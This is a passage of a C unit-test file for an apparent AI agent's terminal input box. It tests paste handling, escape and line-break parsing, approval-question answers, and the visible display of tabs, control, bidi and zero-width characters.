		assert_int_equal(r, 0);
		assert_int_equal(off, to - from);
		from = to;
	}
	assert_int_equal(rd.nseq, 0);
	assert_int_equal(m->paste, 0);
	free(all);
}

static char *joined(const struct piece *pc, size_t npc, size_t *n)
{
	size_t len = 0;
	for (size_t i = 0; i < npc; i++)
		len += strlen(pc[i].bytes);
	char *s = malloc(len + 1), *d = s;
	for (size_t i = 0; i < npc; i++)
		d = stpcpy(d, pc[i].bytes);
	*n = len;
	return s;
}

static void test_tui_keys_paste_bulk_same_as_keys(void **state)
{
	size_t npc = sizeof(paste_pieces) / sizeof(paste_pieces[0]), n;
	char *bytes = joined(paste_pieces, npc, &n);
	struct tui_model ref, m;
	tui_model_init(&ref, 40, 10, 0);
	paste_keys(&ref, paste_pieces, npc);
	/* what it is: the text as pasted, tabs, controls, C1 and bidi
	 * controls included (the box draws them); Enter a line break, CR LF
	 * one; the escape sequences left out, ESC with them */
	assert_string_equal(ref.in.buf, "plain text, caf\xc3\xa9 \xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x99\x82 e\xcc\x81"
			    "\tcol\tumn\n\x01\x7f\b" "C1 \xc2\x85 bidi \xe2\x80\xae zw \xe2\x80\x8b"
			    "red\n\nlast line");

	/* at once */
	tui_model_init(&m, 40, 10, 0);
	paste_bulk(&m, bytes, n, NULL, 0);
	assert_string_equal(m.in.buf, ref.in.buf);
	tui_model_release(&m);
	/* a byte at a time */
	size_t *cuts = malloc((n + 6) * sizeof(*cuts));
	for (size_t i = 0; i < n + 5; i++)
		cuts[i] = i + 1;
	tui_model_init(&m, 40, 10, 0);
	paste_bulk(&m, bytes, n, cuts, n + 5);
	assert_string_equal(m.in.buf, ref.in.buf);
	tui_model_release(&m);
	/* cut at random places */
	srand(7);
	for (int round = 0; round < 200; round++) {
		size_t nc = 0, at = 0;
		while ((at += 1 + (size_t)rand() % 24) < n + 6)
			cuts[nc++] = at;
		tui_model_init(&m, 40, 10, 0);
		paste_bulk(&m, bytes, n, cuts, nc);
		assert_string_equal(m.in.buf, ref.in.buf);
		tui_model_release(&m);
	}
	tui_model_release(&ref);
	free(bytes);

	/* Past the box's cap: cut at the same place, the rest left out,
	 * the user told once; 2.5 times the cap, characters of 1 to 4 bytes. */
	struct piece big[] = { TXT(NULL) };
	size_t bn = 0, bcap = TUI_MAX_INPUT * 5 / 2;
	char *b = malloc(bcap + 8);
	static const char *const chars[] = { "a", "\xc3\xa9", "\xe6\xbc\xa2", "\xf0\x9f\x99\x82", " ", "\n" };
	for (int i = 0; bn < bcap; i++) {
		const char *c = chars[(i * 7 + i / 5) % 6];
		bn = (size_t)(stpcpy(b + bn, c) - b);
	}
	big[0].bytes = b;
	tui_model_init(&ref, 40, 10, 0);
	paste_keys(&ref, big, 1);
	tui_model_init(&m, 40, 10, 0);
	srand(11);
	size_t nc = 0, at = 0;
	cuts = realloc(cuts, (bn + 6) * sizeof(*cuts));
	while ((at += 1 + (size_t)rand() % 300) < bn + 6)
		cuts[nc++] = at;
	paste_bulk(&m, b, bn, cuts, nc);
	assert_true(ref.in.len <= TUI_MAX_INPUT && ref.in.len > TUI_MAX_INPUT - 4);
	assert_string_equal(m.in.buf, ref.in.buf);
	char *t = tui_model_transcript(&m);
	char *note = strstr(t, "the input box holds at most 64 KiB");
	assert_non_null(note);
	assert_null(strstr(note + 1, "the input box holds at most 64 KiB"));
	free(t);
	/* the next paste into the emptied box is taken again */
	tui_input_set(&m.in, "");
	paste_bulk(&m, "again", 5, NULL, 0);
	assert_string_equal(m.in.buf, "again");
	tui_model_release(&m);
	tui_model_release(&ref);
	free(b);
	free(cuts);
}

/* ESC ESC and a character inside a paste: the two escapes are one key
 * that does nothing, as render_key reads them (ncurses hands it the second
 * escape as the character after the first), and the character is typed.
 * Before, the bulk reader let the second escape take the character with it
 * (alt-x, nothing): the x was lost.  Read whole, a byte at a time and cut at
 * random. */
static void test_tui_keys_paste_esc_esc(void **state)
{
	(void)state;
	static const struct { const char *s, *box; } c[] = {
		{ "a\033\033xb", "axb" },
		{ "\033\033x", "x" },
		{ "a\033\033\xc3\xa9" "b", "a\xc3\xa9" "b" },
		{ "a\033\033\rb", "a\nb" },
		{ "a\033\033\033xb", "ab" },		/* the pair, then ESC x: alt-x */
		{ "a\033\033\033\033yz", "ayz" },	/* two pairs */
		{ "a\033\033[Cb", "ab" },		/* ESC [ C after the first: a cursor key */
		{ "a\033\033\033[201~", "a" },	/* the end marker after the pair ends it */
	};
	size_t cuts[64];
	srand(3);
	for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		size_t n = strlen(c[i].s);
		for (int way = 0; way < 40; way++) {
			size_t nc = 0;
			if (way == 1)
				for (size_t j = 1; j < n + 6; j++)
					cuts[nc++] = j;
			else if (way > 1)
				for (size_t at = 0; (at += 1 + (size_t)rand() % 4) < n + 6;)
					cuts[nc++] = at;
			struct tui_model m;
			tui_model_init(&m, 40, 10, 0);
			paste_bulk(&m, c[i].s, n, cuts, nc);
			if (strcmp(m.in.buf, c[i].box) != 0)
				fail_msg("case %zu way %d: box '%s'", i, way, m.in.buf);
			tui_model_release(&m);
		}
	}
}

/* A pasted CR LF (a Windows file, many web pages) is one line break in the
 * box, and a CR alone one too; before, CR LF was two.  Only the two bytes
 * side by side: keypad Enter then alt-Enter, or LF CR, stay two.  Read
 * whole, a byte at a time and cut at random, and one key at a time as
 * render_key makes them. */
static void test_tui_keys_paste_crlf(void **state)
{
	(void)state;
	static const struct { const char *s, *box; } c[] = {
		{ "a\r\nb", "a\nb" },
		{ "a\rb", "a\nb" },
		{ "a\r\n\r\nb\r\n", "a\n\nb\n" },
		{ "a\r\r\nb", "a\n\nb" },
		{ "a\n\rb", "a\n\nb" },
		{ "a\r\033[31m\nb", "a\n\nb" },		/* a sequence between */
		{ "a\033OM\033\nb", "a\n\nb" },		/* keypad Enter, alt-Enter */
		{ "\r\n\xc3\xa9\r\n", "\n\xc3\xa9\n" },
	};
	size_t cuts[64];
	srand(5);
	for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		size_t n = strlen(c[i].s);
		for (int way = 0; way < 40; way++) {
			size_t nc = 0;
			if (way == 1)
				for (size_t j = 1; j < n + 6; j++)
					cuts[nc++] = j;
			else if (way > 1)
				for (size_t at = 0; (at += 1 + (size_t)rand() % 4) < n + 6;)
					cuts[nc++] = at;
			struct tui_model m;
			tui_model_init(&m, 40, 10, 0);
			paste_bulk(&m, c[i].s, n, cuts, nc);
			if (strcmp(m.in.buf, c[i].box) != 0)
				fail_msg("case %zu way %d: box '%s'", i, way, m.in.buf);
			tui_model_release(&m);
		}
	}
	/* the key path: CR and LF as render_key reads them (ch their byte) */
	static const struct piece crlf[] = {
		TXT("a"), KEY("\r", TK_ENTER, '\r'), KEY("\n", TK_NEWLINE, '\n'), TXT("b"),
		KEY("\r", TK_ENTER, '\r'), TXT("c"), KEY("\033OM", TK_ENTER, 0), KEY("\033\r", TK_NEWLINE, 0),
	};
	struct tui_model m;
	tui_model_init(&m, 40, 10, 0);
	paste_keys(&m, crlf, sizeof(crlf) / sizeof(crlf[0]));
	assert_string_equal(m.in.buf, "a\nb\nc\n\n");
	/* the end of one paste and the start of the next are not joined */
	paste_bulk(&m, "\r", 1, NULL, 0);
	paste_bulk(&m, "\nd", 2, NULL, 0);
	assert_string_equal(m.in.buf, "a\nb\nc\n\n\n\nd");
	tui_model_release(&m);
	/* in a refusal's reason a line break is a space: CR LF one */
	tui_model_init(&m, 40, 10, 0);
	question(&m, 0);
	struct tui_act a;
	struct tui_key n = { TK_CHAR, 'n', 9000, 0 };
	tui_keys_apply(&m, &n, &a);
	assert_int_equal(m.q, TQ_REASON);
	paste_bulk(&m, "too\r\nrisky\rnow", 15, NULL, 0);
	assert_string_equal(m.reason.buf, "too risky now");
	tui_model_release(&m);
}

/* Read all of s (mode 1) in chunks of step bytes, then the escape delay
 * passes (final); the keys applied with burst as render_key sets it. */
static void bulk_read_all(struct tui_model *m, struct tui_keyrd *rd, const char *s, size_t n, size_t step,
			  uint64_t ms)
{
	struct tui_key k = { TK_PASTE_START, 0, ms, 0 };
	if (!m->paste)		/* the start marker comes through ncurses */
		apply_free(m, &k);
	for (size_t from = 0; from < n; from += step) {
		size_t len = n - from < step ? n - from : step, off = 0;
		while (tui_keys_read(rd, (const unsigned char *)s + from, len, &off, m->paste == 1 ? 1 : 2, 0, &k) > 0) {
			k.ms = ms;
			k.burst = from + off < n;
			struct tui_act a;
			tui_keys_apply(m, &k, &a);
			assert_int_equal(a.act, TACT_NONE);
		}
	}
	size_t off = 0;
	if (tui_keys_read(rd, NULL, 0, &off, 1, 1, &k) > 0) {
		struct tui_act a;
		k.ms = ms;
		tui_keys_apply(m, &k, &a);
		free(a.prompt);
		free(a.reason);
	}
}

/* Bytes that start no character are U+FFFD each (the key path dropped
 * them, and the next character with them), at any split; a paste read in
 * bulk never answers a question; a line break in the reason is a space;
 * escape keys are read as the key path read those it did not know. */
/* The row of the screen that starts with p (the input box's "> "). */
static char *row_with(struct tui_model *m, const char *p)
{
	char *s = screen(m), *r = strstr(s, p), *o = NULL;
	if (r) {
		char *e = strchr(r, '\n');
		o = strndup(r, e ? (size_t)(e - r) : strlen(r));
	}
	free(s);
	return o;
}

static int cursor_x(struct tui_model *m)
{
	struct tui_frame f = { 0 };
	tui_model_frame(m, &f);
	int x = f.cx;
	tui_frame_release(&f);
	return x;
}

/* The end of the code point at s[i]. */
static size_t next_char_end(const char *s, size_t i)
{
	i++;
	while (((unsigned char)s[i] & 0xc0) == 0x80)
		i++;
	return i;
}

#define ZWSP "\xe2\x80\x8b"
#define TAG_A "\xf3\xa0\x81\x81"

/* The input box keeps a character that draws nothing as typed (it is sent
 * so) and draws it as <U+XXXX>: the row, the cursor, the wrap, the box's
 * height, left and right, Backspace and Up/Down go by the escape drawn.
 * Before, the box drew nothing for it: "ad<ZWSP>min" read "admin". */
static void test_tui_input_hidden(void **state)
{
	(void)state;
	struct tui_model m;
	tui_model_init(&m, 40, 12, 1);
	tui_input_set(&m.in, "ad" ZWSP "min");
	char *r = row_with(&m, "> ");
	assert_string_equal(r, "> ad<U+200B>min");
	free(r);
	assert_string_equal(m.in.buf, "ad" ZWSP "min");
	assert_int_equal(cursor_x(&m), 2 + 13);
	/* the cursor stops on each side of it */
	for (int i = 0; i < 3; i++)
		tui_input_left(&m.in);
	assert_int_equal(m.in.cur, 5);
	assert_int_equal(cursor_x(&m), 2 + 10);
	tui_input_left(&m.in);
	assert_int_equal(m.in.cur, 2);
	assert_int_equal(cursor_x(&m), 2 + 2);
	tui_input_right(&m.in);
	assert_int_equal(m.in.cur, 5);
	/* one Backspace deletes it whole */
	tui_input_backspace(&m.in);
	assert_string_equal(m.in.buf, "admin");
	assert_int_equal(m.in.cur, 2);

	/* the wrap: a tag character takes the nine columns of <U+E0041> */
	struct tui_seg sg[4];
	int cr, cc;
	tui_input_set(&m.in, "abcd" TAG_A "efgh");
	assert_int_equal(tui_input_layout(&m.in, 12, 2, sg, 4, &cr, &cc), 3);
	assert_int_equal(sg[0].end, 4);
	assert_int_equal(sg[1].start, 4);
	assert_int_equal(sg[1].end, 4 + 4 + 1);
	assert_int_equal(cr, 2);
	assert_int_equal(cc, 3);
	/* the box's height: twenty tag characters, four to a row of 38 */
	char tags[20 * 4 + 1] = "";
	for (int i = 0; i < 20; i++)
		strcat(tags, TAG_A);
	tui_input_set(&m.in, tags);
	assert_int_equal(tui_input_layout(&m.in, 40, 2, NULL, 0, NULL, NULL), 5);
	tui_input_home(&m.in);
	char *s = screen(&m);
	assert_non_null(strstr(s, "> <U+E0041><U+E0041><U+E0041><U+E0041>\n"));
	free(s);

	/* up keeps the column as drawn: 9 is past the escape, after 'a' */
	tui_input_set(&m.in, ZWSP "abc\n0123456789");
	tui_input_left(&m.in);
	assert_int_equal(tui_input_vmove(&m.in, 40, 2, -1), 1);
	assert_int_equal(m.in.cur, 3 + 1);

	/* one emoji selector after a symbol is drawn, as the answer's is;
	 * one after a letter is shown */
	tui_input_set(&m.in, "\xe2\x9a\xa0\xef\xb8\x8f a\xef\xb8\x8f");
	r = row_with(&m, "> ");
	assert_string_equal(r, "> \xe2\x9a\xa0\xef\xb8\x8f a<U+FE0F>");
	free(r);
	assert_int_equal(cursor_x(&m), 2 + 1 + 2 + 8);
	tui_input_home(&m.in);
	tui_input_right(&m.in);		/* the symbol and its selector */
	assert_int_equal(m.in.cur, 6);

	/* sent as typed, and so again from the history */
	struct tui_act a;
	struct tui_key k = { TK_TEXT };
	tui_input_set(&m.in, "");
	k.text = "run ad" ZWSP "min" TAG_A;
	k.len = strlen(k.text);
	tui_keys_apply(&m, &k, &a);
	struct tui_key e = { TK_ENTER };
	tui_keys_apply(&m, &e, &a);
	assert_int_equal(a.act, TACT_SEND);
	assert_string_equal(a.prompt, "run ad" ZWSP "min" TAG_A);
	free(a.prompt);
	struct tui_key up = { TK_UP };
	tui_keys_apply(&m, &up, &a);
	assert_string_equal(m.in.buf, "run ad" ZWSP "min" TAG_A);
	r = row_with(&m, "> run");
	assert_string_equal(r, "> run ad<U+200B>min<U+E0041>");
	free(r);
	tui_model_release(&m);
}

/* Random boxes of letters, spaces, line breaks, wide and combining
 * characters, emoji with their selector and hidden characters: each row
 * laid out fits the width as drawn (tui_sanitize shows what draws nothing
 * as the box does), and at every cursor position reached by right the
 * cursor's column is the drawn width of the row before it. */
static void test_tui_input_hidden_random(void **state)
{
	(void)state;
	static const char *const atoms[] = {
		"a", "b", " ", "\n", ZWSP, TAG_A, "\xe6\xbc\xa2", "e\xcc\x81", "\xe2\x9a\xa0\xef\xb8\x8f",
		"\xef\xb8\x8f", "\xe2\x80\x8d", "\xef\xbb\xbf", "\t", "\t", "\x01", "\x1b", "\x7f", "\xc2\x85",
		"\xe2\x80\xae", "\xe2\x81\xa6", "\xe2\x80\x8f", "\xd8\x9c",
	};
	struct tui_seg sg[256];
	srand(17);
	for (int round = 0; round < 300; round++) {
		char buf[512] = "";
		int natoms = 1 + rand() % 40, w = 4 + rand() % 30;
		for (int i = 0; i < natoms; i++)
			strcat(buf, atoms[rand() % (int)(sizeof(atoms) / sizeof(atoms[0]))]);
		struct tui_input in;
		tui_input_init(&in);
		tui_input_set(&in, buf);
		assert_string_equal(in.buf, buf);
		in.cur = 0;
		for (;;) {
			int cr, cc, n = tui_input_layout(&in, w, 2, sg, 256, &cr, &cc);
			assert_true(n <= 256);
			for (int r = 0; r < n; r++) {
				char *o = NULL;
				size_t len = 0, cap = 0;
				int col = 0;
				tui_sanitize(in.buf + sg[r].start, sg[r].end - sg[r].start, &o, &len, &cap, &col);
				int one = sg[r].end > sg[r].start &&
					  next_char_end(in.buf, sg[r].start) >= sg[r].end;
				if (tui_width(o, len) > w - 2 && !one)
					fail_msg("round %d w %d row %d: '%s' is %d wide", round, w, r, o, tui_width(o, len));
				free(o);
			}
			char *o = NULL;
			size_t len = 0, cap = 0;
			int col = 0;
			tui_sanitize(in.buf + sg[cr].start, in.cur - sg[cr].start, &o, &len, &cap, &col);
			if (cc != tui_width(o, len))
				fail_msg("round %d: cursor at %zu: column %d, drawn %d ('%s')", round, in.cur, cc,
					 tui_width(o, len), o);
			free(o);
			if (in.cur == in.len)
				break;
			size_t was = in.cur;
			tui_input_right(&in);
			assert_true(in.cur > was);
		}
		/* Backspace deletes one character, whole, from the end */
		while (in.len) {
			size_t was = in.len, k = was - 1;
			while (k > 0 && ((unsigned char)buf[k] & 0xc0) == 0x80)
				k--;
			tui_input_backspace(&in);
			assert_int_equal(in.len, k);
			assert_memory_equal(in.buf, buf, k);
		}
		tui_input_release(&in);
	}
}

/* A paste carrying them, read in bulk whole, a byte at a time and cut at
 * random: the box holds the bytes pasted and draws each as <U+XXXX>. */
static void test_tui_paste_hidden(void **state)
{
	(void)state;
	const char in[] = "ignore" ZWSP " this" TAG_A "\xf3\xa0\x81\xa9 ok \xef\xbb\xbf";
	const char want[] = "> ignore<U+200B> this<U+E0041><U+E0069> ok <U+FEFF>";
	size_t n = sizeof(in) - 1, cuts[64];
	srand(13);
	for (int way = 0; way < 40; way++) {
		struct tui_model m;
		size_t nc = 0, at = 0;
		if (way == 1)
			for (at = 1; at < n + 6; at++)
				cuts[nc++] = at;
		else if (way > 1)
			while ((at += 1 + (size_t)rand() % 5) < n + 6 && nc < 64)
				cuts[nc++] = at;
		tui_model_init(&m, 60, 10, 0);
		paste_bulk(&m, in, n, cuts, nc);
		assert_string_equal(m.in.buf, in);
		char *r = row_with(&m, "> ");
		if (!r || strcmp(r, want) != 0)
			fail_msg("way %d: '%s'", way, r ? r : "(none)");
		free(r);
		tui_model_release(&m);
	}
}

#define RLO "\xe2\x80\xae"
#define LRI "\xe2\x81\xa6"

/* Tabs, controls and bidi controls typed or pasted are the user's text:
 * the box keeps them byte for byte (a Makefile's tabs reach the model)
 * and draws them: a tab as spaces to the next stop of 4 from the row's
 * start, a control as ^X, C1 and bidi controls as <U+XXXX>.  The cursor,
 * the wrap, Left/Right, Backspace, Up/Down, the box's height, the prompt
 * sent, history and the transcript's echo go by that.  Before, the box
 * rewrote them as it took them: a tab became four spaces, U+202E the
 * text "<U+202E>", and that was sent. */
static void test_tui_input_controls(void **state)
{
	(void)state;
	struct tui_model m;
	struct tui_act a;
	const char text[] = "all:\n\tcc -o x\tx.c\x01" RLO "z";
	tui_model_init(&m, 40, 12, 0);
	tui_input_set(&m.in, text);
	assert_string_equal(m.in.buf, text);
	char *s = screen(&m);
	/* the tab at 0 to 4; "cc -o x" to 11, its tab to 12 */
	assert_non_null(strstr(s, "> all:\n      cc -o x x.c^A<U+202E>z\n"));
	free(s);
	assert_int_equal(cursor_x(&m), 2 + 26);
	/* Left steps over each whole; the cursor's column is as drawn */
	tui_input_left(&m.in);
	tui_input_left(&m.in);
	assert_int_equal(cursor_x(&m), 2 + 17);
	tui_input_left(&m.in);
	assert_int_equal(cursor_x(&m), 2 + 15);
	for (int i = 0; i < 4; i++)
		tui_input_left(&m.in);
	assert_int_equal(cursor_x(&m), 2 + 11);	/* after the x before the tab */
	tui_input_right(&m.in);
	assert_int_equal(cursor_x(&m), 2 + 12);
	/* one Backspace deletes the tab: "x.c" moves to the column after x */
	tui_input_backspace(&m.in);
	assert_string_equal(m.in.buf, "all:\n\tcc -o xx.c\x01" RLO "z");
	assert_int_equal(cursor_x(&m), 2 + 11);
	tui_input_end(&m.in);
	tui_input_backspace(&m.in);
	tui_input_backspace(&m.in);
	assert_string_equal(m.in.buf, "all:\n\tcc -o xx.c\x01");
	tui_input_backspace(&m.in);
	assert_string_equal(m.in.buf, "all:\n\tcc -o xx.c");
	/* Up keeps the column as drawn: from after the tab (4) to after "all:" */
	tui_input_home(&m.in);
	tui_input_right(&m.in);
	assert_int_equal(tui_input_vmove(&m.in, 40, 2, -1), 1);
	assert_int_equal(m.in.cur, 4);
	assert_int_equal(tui_input_vmove(&m.in, 40, 2, 1), 1);
	assert_int_equal(m.in.cur, 6);

	/* the wrap and the box's height: tab stops count from each row's
	 * start; a tab that does not fit goes to the next row */
	struct tui_seg sg[8];
	int cr, cc;
	tui_input_set(&m.in, "abcde\t\tfg" LRI "h");
	/* 10 columns: "abcde" + tab to 8, a tab to 12 does not fit */
	assert_int_equal(tui_input_layout(&m.in, 12, 2, sg, 8, &cr, &cc), 3);
	assert_int_equal(sg[0].end, 6);
	assert_int_equal(sg[1].start, 6);
	assert_int_equal(sg[1].end, 9);		/* tab (4), fg: <U+2066> is 8 */
	assert_int_equal(cr, 2);
	assert_int_equal(cc, 9);

	/* sent as typed, recalled as sent, echoed visibly */
	tui_input_set(&m.in, text);
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	assert_string_equal(a.prompt, text);
	tui_model_user(&m, a.prompt, 0);
	free(a.prompt);
	assert_string_equal(m.in.buf, "");
	assert_int_equal(tui_model_history(&m, -1), 1);
	assert_string_equal(m.in.buf, text);
	char *t = tui_model_transcript(&m);
	assert_non_null(strstr(t, "    cc -o x x.c^A<U+202E>z\n"));
	assert_null(strchr(t, '\t'));
	assert_null(strstr(t, RLO));
	assert_null(strchr(t, '\x01'));
	free(t);
	/* ctrl-w: a tab parts words as a space does */
	tui_input_set(&m.in, "a\tb\t");
	tui_input_kill_word(&m.in);
	assert_string_equal(m.in.buf, "a\t");
	/* a blank prompt of tabs is not sent, as one of spaces */
	tui_model_turn_done(&m);
	assert_int_equal(m.busy, 0);
	tui_input_set(&m.in, "\t \n\t");
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_NONE);
	tui_input_set(&m.in, "\tx");
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_SEND);
	assert_string_equal(a.prompt, "\tx");
	free(a.prompt);
	/* typed: a tab and a C1 control (get_wch) are kept */
	tui_input_set(&m.in, "");
	key(&m, TK_CHAR, '\t', &a);
	key(&m, TK_CHAR, 0x85, &a);
	assert_string_equal(m.in.buf, "\t\xc2\x85");
	/* not UTF-8: U+FFFD each, as drawn; a NUL left out */
	tui_input_set(&m.in, "");
	tui_input_insert(&m.in, "a\xff" "b\0c\x1b", 6);
	assert_string_equal(m.in.buf, "a\xef\xbf\xbd" "bc\x1b");
	s = screen(&m);
	assert_non_null(strstr(s, "\n> a\xef\xbf\xbd" "bc^[\n"));
	free(s);
	tui_model_release(&m);
}

/* Random pastes of tabs, controls, bidi controls, line breaks and text,
 * read in bulk whole, a byte at a time and cut at random: Enter sends
 * them byte for byte, and the box drew every row within its width. */
static void test_tui_paste_exact(void **state)
{
	(void)state;
	static const char *const atoms[] = {
		"a", "Z", " ", "\t", "\n", "\x01", "\x7f", "\b", "\x1f", "\xc2\x85", "\xc2\x9b", RLO, LRI,
		"\xe2\x80\x8e", "\xd8\x9c", "\xe2\x81\xa9", ZWSP, "\xe6\xbc\xa2", "caf\xc3\xa9", "e\xcc\x81",
	};
	size_t cuts[4096];
	srand(23);
	for (int round = 0; round < 150; round++) {
		char buf[1024] = "x";	/* not blank, so Enter sends */
		int natoms = 1 + rand() % 60;
		for (int i = 0; i < natoms; i++)
			strcat(buf, atoms[rand() % (int)(sizeof(atoms) / sizeof(atoms[0]))]);
		size_t n = strlen(buf), nc = 0, at = 0;
		int way = round % 3;
		if (way == 1)
			for (at = 1; at < n + 6; at++)
				cuts[nc++] = at;
		else if (way == 2)
			while ((at += 1 + (size_t)rand() % 9) < n + 6)
				cuts[nc++] = at;
		struct tui_model m;
		struct tui_act a;
		tui_model_init(&m, 4 + rand() % 40, 40, 0);
		paste_bulk(&m, buf, n, cuts, nc);
		if (strcmp(m.in.buf, buf) != 0)
			fail_msg("round %d way %d: the box holds '%s', pasted '%s'", round, way, m.in.buf, buf);
		char *s = screen(&m);
		for (const char *p = s; *p; p++)
			if ((unsigned char)*p < 0x20 && *p != '\n')
				fail_msg("round %d: a control drawn raw: '%s'", round, s);
		assert_null(strstr(s, RLO));
		free(s);
		key(&m, TK_ENTER, 0, &a);
		assert_int_equal(a.act, TACT_SEND);
		assert_string_equal(a.prompt, buf);
		free(a.prompt);
		tui_model_release(&m);
	}
}

static void test_tui_keys_paste_bulk_question_invalid(void **state)
{
	static const char bad[] = "a\xff" "b\xc3(c\xe2\x82\033[201~";
	struct tui_model m;
	for (size_t step = 1; step <= sizeof(bad); step++) {
		struct tui_keyrd rd;
		memset(&rd, 0, sizeof(rd));
		tui_model_init(&m, 40, 10, 0);
		bulk_read_all(&m, &rd, bad, sizeof(bad) - 1, step, 0);
		assert_string_equal(m.in.buf, "a\xef\xbf\xbd" "b\xef\xbf\xbd(c\xef\xbf\xbd");
		assert_int_equal(m.paste, 0);
		tui_model_release(&m);
	}
	/* a character cut short when nothing more came */
	struct tui_keyrd rd;
	memset(&rd, 0, sizeof(rd));
	tui_model_init(&m, 40, 10, 0);
	bulk_read_all(&m, &rd, "x\xe2\x82", 3, 2, 0);
	assert_string_equal(m.in.buf, "x\xef\xbf\xbd");
	assert_int_equal(m.paste, 1);
	/* a lone escape (nothing behind it within the delay) ends the paste */
	bulk_read_all(&m, &rd, "\033", 1, 1, 0);
	assert_int_equal(m.paste, 0);
	tui_model_release(&m);

	/* at a question: nothing answers, the quiet time moves on */
	tui_model_init(&m, 40, 10, 0);
	question(&m, 0);
	memset(&rd, 0, sizeof(rd));
	bulk_read_all(&m, &rd, "y\ra\r\033[201~", 11, 5, 5000);
	assert_int_equal(m.q, TQ_ASK);
	assert_true(m.qquiet >= 5000 + APPROVE_RECOVER_MS);
	assert_string_equal(m.in.buf, "");
	/* the reason: a line break is a space (CR LF one) */
	struct tui_act a;
	struct tui_key n = { TK_CHAR, 'n', 9000, 0 };
	tui_keys_apply(&m, &n, &a);
	assert_int_equal(m.q, TQ_REASON);
	bulk_read_all(&m, &rd, "too\r\nrisky\033[201~", 16, 3, 9000);
	assert_string_equal(m.reason.buf, "too risky");
	tui_model_release(&m);

	/* escape keys as render_key reads those the key table does not
	 * know: two escapes do nothing (before an end marker the first
	 * alone, and the marker ends the paste), the x after them is typed, a control or a character ends a sequence, so
	 * does ESC [ [, and ESC and a character is nothing */
	static const struct { const char *s, *box; int paste; } esc[] = {
		{ "ab\033\033[201~", "ab", 0 },
		{ "a\033\033xb\033[201~", "axb", 0 },
		{ "\033[1\001x\033[201~", "x", 0 },
		{ "\033[[A\033[201~", "A", 0 },
		{ "\033\xc3\xa9z\033[2\xc3\xa9y\033[201~", "zy", 0 },
		{ "\033[1;2;3;4;5;6;7;8;9;0;1;2;3;4;5;6;7qw\033[201~", "qw", 0 },	/* 32 and one more */
	};
	for (size_t i = 0; i < sizeof(esc) / sizeof(esc[0]); i++) {
		for (size_t step = 1; step <= strlen(esc[i].s); step++) {
			memset(&rd, 0, sizeof(rd));
			tui_model_init(&m, 40, 10, 0);
			bulk_read_all(&m, &rd, esc[i].s, strlen(esc[i].s), step, 0);
			assert_string_equal(m.in.buf, esc[i].box);
			assert_int_equal(m.paste, esc[i].paste);
			tui_model_release(&m);
		}
	}
	/* mode 2 reads one key at a time; an escape key it cannot name is
	 * nothing */
	size_t off = 0;
	struct tui_key k;
	memset(&rd, 0, sizeof(rd));
	assert_int_equal(tui_keys_read(&rd, (const unsigned char *)"\033[A", 3, &off, 2, 0, &k), 1);
	assert_int_equal(k.code, TK_NONE);
	off = 0;
	assert_int_equal(tui_keys_read(&rd, (const unsigned char *)"y\r", 2, &off, 2, 0, &k), 1);
	assert_int_equal(k.code, TK_CHAR);
	assert_int_equal(k.ch, 'y');
	assert_int_equal(tui_keys_read(&rd, (const unsigned char *)"y\r", 2, &off, 2, 0, &k), 1);
	assert_int_equal(k.code, TK_ENTER);
}

/* An input box of more rows than the layout keeps segments for
 * (TUI_MAX_SEGS: 5,000 pasted lines, or 64 KiB wrapped in a narrow pane)
 * shows the rows around the cursor.  Before, the frame read the segments
 * of rows past the 4096 it kept (a static array): the screen hung, or
 * drew from past the array. */
static void test_tui_input_many_rows(void **state)
{
	struct tui_model m;
	struct tui_frame f = { 0 };
	tui_model_init(&m, 40, 12, 0);
	char *s = malloc(TUI_MAX_INPUT + 1);
	size_t n = 0;
	for (int i = 0; n + 12 < TUI_MAX_INPUT; i++)
		n += (size_t)sprintf(s + n, "%d\n", i);
	n += (size_t)sprintf(s + n, "end");
	tui_input_set(&m.in, s);
	assert_true(tui_input_layout(&m.in, 40, 2, NULL, 0, NULL, NULL) > TUI_MAX_SEGS);
	tui_model_frame(&m, &f);
	char *scr = screen(&m);
	assert_non_null(strstr(scr, "  end\n"));	/* the cursor's row, last */
	char last[16];
	int k = 0;
	for (size_t i = 0; i < n; i++)
		if (s[i] == '\n')
			k++;
	snprintf(last, sizeof(last), "  %d\n", k - 1);
	assert_non_null(strstr(scr, last));		/* the row above it */
	assert_int_equal(f.cy, f.h - 2);
	free(scr);
	/* the cursor at the top: the first rows */
	m.in.cur = 0;
	tui_model_frame(&m, &f);
	scr = screen(&m);
	assert_non_null(strstr(scr, "> 0\n  1\n"));
	free(scr);
	/* a narrow pane: 64 KiB of one line wraps into some 8,000 rows */
	memset(s, 'x', TUI_MAX_INPUT - 1);
	s[TUI_MAX_INPUT - 1] = '\0';
	tui_input_set(&m.in, s);
	tui_model_resize(&m, 10, 12);
	tui_model_frame(&m, &f);
	scr = screen(&m);
	assert_non_null(strstr(scr, "  xxxxxxx\n"));
	free(scr);
	free(s);
	tui_frame_release(&f);
	tui_model_release(&m);
}

static void test_tui_keys_question(void **state)
{
	struct tui_model m;
	struct tui_act a;
	tui_model_init(&m, 60, 12, 1);
	question(&m, 0);
	type(&m, "x");				/* not an answer */
	assert_int_equal(m.q, TQ_ASK);
	key(&m, TK_CHAR, 'y', &a);
	assert_int_equal(a.act, TACT_ANSWER);
	assert_int_equal(a.answer, APPROVE_YES);
	key(&m, TK_CHAR, 'a', &a);
	assert_int_equal(a.answer, APPROVE_ALWAYS);
	key(&m, TK_CHAR, 'n', &a);
	assert_int_equal(a.act, TACT_NONE);
	assert_int_equal(m.q, TQ_REASON);
	type(&m, "use a temp dir");
	char *s = screen(&m);
	assert_non_null(strstr(s, "reason> use a temp dir"));
	free(s);
	key(&m, TK_ENTER, 0, &a);
	assert_int_equal(a.act, TACT_ANSWER);
	assert_int_equal(a.answer, APPROVE_NO);
	assert_string_equal(a.reason, "use a temp dir");
	assert_int_equal(a.stop, 0);
	free(a.reason);
	/* escape refuses and stops the turn */
	question(&m, 0);
	key(&m, TK_ESC, 0, &a);
	assert_int_equal(a.act, TACT_ANSWER);
	assert_int_equal(a.answer, APPROVE_NO);
	assert_int_equal(a.stop, 1);
	/* n then an empty reason: no reason */
	question(&m, 0);
	key(&m, TK_CHAR, 'n', &a);
